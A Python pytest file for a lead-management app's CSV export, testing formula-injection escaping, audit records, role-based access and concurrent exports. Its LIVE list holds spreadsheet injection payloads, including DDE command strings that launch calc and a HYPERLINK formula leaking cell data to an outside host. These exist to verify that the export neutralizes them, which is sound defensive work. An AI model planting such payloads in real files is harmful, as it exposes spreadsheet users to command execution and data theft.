"""Exports: what is in the file, what a spreadsheet would run, what is recorded, and who may."""

from __future__ import annotations

import csv
import hashlib
import io
import threading

import psycopg
import pytest

from leadhouse import files
from leadhouse.leads import exports, lists, segments
from leadhouse.leads.exports import (
    Export,
    ExportWish,
    export_leads,
    finish_export,
    list_exports,
    safe_cell,
    write_export,
)
from leadhouse.leads.work import LeadChangeError, LeadNotFoundError, LeadRefusedError
from leadhouse.leads.work_list import LeadFilter
from leadhouse.settings import settings

LIVE = [
    "=1+1", "+49 30 1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1",
    "\uff1dcmd|' /C calc'!A0", "\uff0b1", "\uff0d1", "\uff201",
    '=HYPERLINK("http://x.example/?a="&A1,"ok")', "=cmd|'/c calc'!A1", "\x0b=1", "\u00a0@x",
]  # fmt: skip


@pytest.fixture(scope="module")
def exported(team):
    made = [
        team.lead(owner="rep", full_name='=HYPERLINK("x")', company_name="A, B\nGmbH", email_normalized="a@x.example"),
        team.lead(owner="rep", full_name="Ünal Ög", phone_e164="+4930", lead_score=40),
        team.lead(full_name="Zoe", lead_score=90),
    ]  # fmt: skip
    team.lead(team.south, full_name="Foreign")
    with team.database.owner() as owner:
        owner.execute(
            "update app.leads set tags = '{a,b}', custom_fields = '{\"vip\": \"@yes\"}' where lead_id = %s", [made[0]]
        )
    return made


def read(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def written(team, member, **wish):
    file = io.BytesIO()
    with team.acting(member) as connection:
        made = write_export(connection, team.organization_of(member), ExportWish(**wish), file)
        finish_export(connection, team.organization_of(member), made)
    return made, file.getvalue()


@pytest.mark.parametrize("text", LIVE)
def test_no_cell_is_a_live_formula(text):
    assert safe_cell(text).startswith("'")
    assert safe_cell(text)[1:] == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [(None, ""), ("", ""), ("Anna", "Anna"), (-5, "-5"), (3.5, "3.5"), (["=a", "b"], "'=a; b"), ("a=b", "a=b"),
     ("a\0b", "ab"), (True, "True"), ("'=1", "'=1")],
)  # fmt: skip
def test_other_cells_stay(value, cell):
    assert safe_cell(value) == cell


def test_a_file_reads_back_as_the_leads(team, exported):
    made, content = written(team, "manager", columns=(*exports.COLUMNS, "custom_fields.vip"))
    rows = {row["lead_id"]: row for row in read(content)}
    assert content.startswith(b"\xef\xbb\xbf")
    assert set(rows) == set(map(str, exported))
    first = rows[str(exported[0])]
    assert first["full_name"] == '\'=HYPERLINK("x")'
    assert first["company"] == "A, B\nGmbH"
    assert first["tags"] == "a; b"
    assert first["custom_fields.vip"] == "'@yes"
    assert rows[str(exported[1])]["full_name"] == "Ünal Ög"
    assert rows[str(exported[1])]["phone"] == "'+4930"
    assert rows[str(exported[1])]["owner"] == "rep@x.example"
    assert (made.row_count, made.size_bytes, made.sha256) == (3, len(content), hashlib.sha256(content).hexdigest())


def test_an_export_records_itself_its_rows_and_the_act(team, exported):
    made, _ = written(team, "manager", name="Fair", wanted=LeadFilter(owner_id=team.users["rep"]))
    row = team.row("select * from app.exports where export_id = %s", made.export_id)
    assert (row["name"], row["state"], row["row_count"], row["sha256"]) == ("Fair", "completed", 2, made.sha256)
    assert row["created_by"] == team.users["manager"]
    assert row["criteria"] == {"owner_id": str(team.users["rep"])}
    rows = team.rows("select lead_id, row_no from app.export_rows where export_id = %s order by row_no", made.export_id)
    assert {each["lead_id"] for each in rows} == set(exported[:2])
    assert [each["row_no"] for each in rows] == [1, 2]
    [act] = team.rows("select verb, resource, actor_user_id, details from identity.audit_log where verb = 'export'"
                      " and resource_id = %s", str(made.export_id))  # fmt: skip
    assert (act["resource"], act["actor_user_id"]) == ("leads", team.users["manager"])
    assert act["details"]["rows"] == 2


def test_each_role_exports_what_it_reaches(team, exported):
    for name, expected in (("admin", 3), ("manager", 3), ("rep", 2), ("mate", 0), ("stranger", 1)):
        assert written(team, name)[0].row_count == expected
    for name in ("reader", "client"):
        with pytest.raises(LeadRefusedError):
            written(team, name)


def test_who_sees_which_export(team, exported):
    made, _ = written(team, "rep", name="of the rep")
    seen = {}
    for name in ("manager", "rep", "mate", "reader", "client", "stranger"):
        with team.acting(name) as connection:
            seen[name] = made.export_id in {
                each.export_id for each in list_exports(connection, team.organization_of(name))
            }
    assert seen == {"manager": True, "rep": True, "mate": False, "reader": True, "client": False, "stranger": False}


def test_nobody_writes_into_anothers_export(team, exported):
    made, _ = written(team, "rep", name="closed")
    for name in ("rep", "manager", "stranger"):
        with team.acting(name) as connection:
            changed = connection.execute(
                "update app.exports set row_count = 0 where export_id = %s returning export_id", [made.export_id]
            ).fetchall()
            assert changed == []
            with pytest.raises(psycopg.errors.InsufficientPrivilege), connection.transaction():
                connection.execute(
                    "insert into app.export_rows (organization_id, export_id, lead_id, row_no) values (%s, %s, %s, 9)",
                    [team.north, made.export_id, exported[2]],
                )
    with team.database.owner() as owner, pytest.raises(psycopg.errors.IntegrityConstraintViolation):
        owner.execute("delete from app.export_rows where export_id = %s", [made.export_id])


def test_what_was_exported_before_is_left_out(team):
    """By anyone of the organization, also for a rep who does not see the former export."""
    with team.acting("manager") as connection:
        target = lists.create_list(connection, team.north, "fresh")
        mine, other = team.lead(owner="rep"), team.lead()
        lists.add_members(connection, team.north, target, [mine])
        assert written(team, "manager", wanted=LeadFilter(owner_id=team.users["rep"]))[0].row_count >= 1
    made, content = written(team, "rep", leaves_out_exported=True)
    assert str(mine) not in {row["lead_id"] for row in read(content)}
    again, _ = written(team, "rep", leaves_out_exported=True)
    assert again.row_count == 0
    assert written(team, "manager", leaves_out_exported=True)[0].row_count >= 1
    assert other in {row["lead_id"] for row in team.rows("select lead_id from app.export_rows")}
    assert made.row_count + again.row_count == 0


def test_a_failed_export_leaves_no_trace(team):
    lead = team.lead(full_name="Not exported")
    with team.acting("manager") as connection:
        write_export(connection, team.north, ExportWish(), io.BytesIO())
        connection.rollback()
    assert team.rows("select from app.export_rows where lead_id = %s", lead) == []


def test_two_exporters_never_give_out_the_same_lead(team):
    leads = [team.lead() for _ in range(30)]
    gate, found = threading.Barrier(3), []

    def run():
        gate.wait()
        found.append({row["lead_id"] for row in read(written(team, "manager", leaves_out_exported=True)[1])})

    threads = [threading.Thread(target=run) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert sum(len(each & set(map(str, leads))) for each in found) == 30
    assert set.union(*found) >= set(map(str, leads))


def test_a_segment_and_a_list_narrow_an_export(team, exported):
    with team.acting("manager") as connection:
        target = lists.create_list(connection, team.north, "narrow")
        lists.add_members(connection, team.north, target, exported)
        segment = segments.create_segment(connection, team.north, "good", {"field": "lead_score", "at_least": 40})
    wanted = LeadFilter(list_id=target, criteria={"field": "owner_id", "is_known": True})
    assert written(team, "manager", wanted=wanted)[0].row_count == 2
    assert written(team, "manager", wanted=wanted, segment_id=segment)[0].row_count == 1
    with pytest.raises(LeadNotFoundError):
        written(team, "manager", segment_id=team.north)
    with pytest.raises(LeadNotFoundError):
        written(team, "stranger", segment_id=segment)


def test_an_unknown_column_is_refused(team):
    with team.acting("manager") as connection, pytest.raises(LeadChangeError, match="no column 'password'"):
        write_export(connection, team.north, ExportWish(columns=("lead_id", "password")), io.BytesIO())


def test_memory_does_not_grow_with_the_rows(team):
    """Rows go through one at a time: the writer never holds two."""
    alive, most = 0, 0

    class Row(dict):
        def __init__(self):
            nonlocal alive, most
            super().__init__(lead_id="x")
            alive += 1
            most = max(most, alive)

        def __del__(self):
            nonlocal alive
            alive -= 1

    assert exports.write_csv(io.StringIO(), ["lead_id"], (Row() for _ in range(1_000))) == 1_000
    assert most <= 2


def test_a_file_is_kept_in_the_bucket(team, exported, tmp_path, monkeypatch):
    monkeypatch.setenv("LEADHOUSE_FILES_URL", tmp_path.as_uri())
    settings.cache_clear()
    with team.acting("manager") as connection:
        made = export_leads(connection, team.north, ExportWish(name="kept"))
        kept = files.find(connection, team.north, made.object_id)
        with files.open_file(kept) as file:
            content = file.read()
    assert isinstance(made, Export)
    assert hashlib.sha256(content).hexdigest() == made.sha256 == kept.sha256
    assert len(read(content)) == made.row_count > 0
    with team.acting("stranger") as connection, pytest.raises(files.FileMissingError):
        files.find(connection, team.south, made.object_id)
